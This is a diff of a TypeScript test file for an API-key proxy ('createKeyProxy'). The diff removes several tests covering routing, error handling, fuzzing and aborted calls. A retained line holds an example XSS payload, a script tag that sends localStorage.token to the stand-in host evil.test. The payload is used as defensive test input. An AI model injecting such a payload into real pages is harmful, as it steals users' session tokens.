@@ -1,14 +1,11 @@
 import { expect } from "chai";
-import fc from "fast-check";
-import { createClient, createKeyProxy, getChains, testnet } from "../../../src/client/index.ts";
-import { rejectionOf } from "./support/fakeService.ts";
+import { createKeyProxy, testnet } from "../../../src/client/index.ts";
 import { apiKey, stage } from "./support/keyProxy.ts";
 
 const html = "<script>fetch('https://evil.test/?' + localStorage.token)</script>";
 
 const contents = async (answer: Response): Promise<[number, string]> => [answer.status, await answer.text()];
 const isJson = { "content-type": "application/json" };
-const unanswered = [502, '{"message":"The service did not answer"}'];
 const throwing = () => {
   throw new TypeError(`cannot connect with ${apiKey}`);
 };
@@ -56,14 +53,6 @@ describe("createKeyProxy", () => {
     expect(calls).to.deep.equal([]);
   });
 
-  it("has its own routes under its own prefix", async () => {
-    const { statusOf } = stage(undefined, { prefix: "/api/relay", routes: ["GET /requests/v3"] });
-    expect(await statusOf("/api/relay/requests/v3?limit=1")).to.equal(200);
-    for (const path of ["/requests/v3", "/api/relayx/requests/v3", "/api/relay/chains"]) {
-      expect(await statusOf(path), path).to.equal(404);
-    }
-  });
-
   it("answers 413 to a body beyond its limit", async () => {
     const { statusOf } = stage(undefined, { maxBodyBytes: 10 });
     expect(await statusOf("/price", { body: '{"ttl":100}', method: "POST" })).to.equal(413);
@@ -81,28 +70,6 @@ describe("createKeyProxy", () => {
   it("answers 502 to a redirect of the service", async () => {
     const moved = () => new Response(null, { headers: { location: "http://evil.test" }, status: 302 });
     expect(await stage(moved).statusOf("/chains")).to.equal(502);
-  });
-
-  it("answers 502 without the reason when the service cannot be reached", async () => {
-    expect(await contents(await stage(throwing).call("/chains"))).to.deep.equal(unanswered);
-  });
-
-  it("serves a client that has no key", async () => {
-    const { handler } = stage(() => Response.json({ chains: [] }), { prefix: "/api" });
-    const fetch = (url: string, init: RequestInit) => handler(new Request(url, init));
-    const client = createClient({ baseUrl: "https://app.test/api", fetch });
-    expect(await getChains(client)).to.deep.equal({ chains: [] });
-    const other = createClient({ baseUrl: "https://app.test/other", fetch });
-    expect(await rejectionOf(getChains(other))).to.include({ code: "HTTP_ERROR", status: 404 });
-  });
-
-  it("answers anything without throwing", async () => {
-    const { statusOf } = stage();
-    await fc.assert(
-      fc.asyncProperty(fc.webPath(), fc.constantFrom("GET", "POST", "PATCH"), async (path, method) => {
-        expect(await statusOf(path, { method })).to.be.oneOf([200, 404]);
-      }),
-    );
   });
 
   describe("given a check", () => {
@@ -223,16 +190,6 @@ describe("createKeyProxy", () => {
         expect(headers.get("x-content-type-options")).to.equal("nosniff");
       }
     });
-
-    it("passes an empty answer, and JSON of a vendor's type as plain JSON", async () => {
-      const empty = await stage(() => new Response(null, { status: 200 })).call("/chains");
-      expect(await contents(empty)).to.deep.equal([200, ""]);
-      const headers = { "content-type": "application/problem+json; charset=utf-8" };
-      const problem = new Response('{"a":12345678901234567890}', { headers, status: 400 });
-      const passed = await stage(() => problem).call("/chains");
-      expect(passed.headers.get("content-type")).to.equal("application/json");
-      expect(await contents(passed)).to.deep.equal([400, '{"a":12345678901234567890}']);
-    });
   });
 
   describe("given the key in another form", () => {
@@ -296,20 +253,6 @@ describe("createKeyProxy", () => {
     it("Q16: answers 504 to an answer's body that takes longer than the call may", async () => {
       const slow = stage(() => new Response(stalled(), { headers: isJson }), { timeout: 20 });
       expect(await slow.statusOf("/chains")).to.equal(504);
-    });
-
-    it("Q16: answers 502 to an answer's body that breaks or is locked", async () => {
-      for (const answer of [
-        new Response(broken(), { headers: isJson }),
-        lock(Response.json({})),
-        {} as Response,
-      ]) {
-        expect(await contents(await stage(() => answer).call("/chains"))).to.deep.equal(unanswered);
-      }
-    });
-
-    it("answers 504 when the caller has gone", async () => {
-      expect(await stage().statusOf("/chains", { signal: AbortSignal.abort() })).to.equal(504);
     });
   });
 });
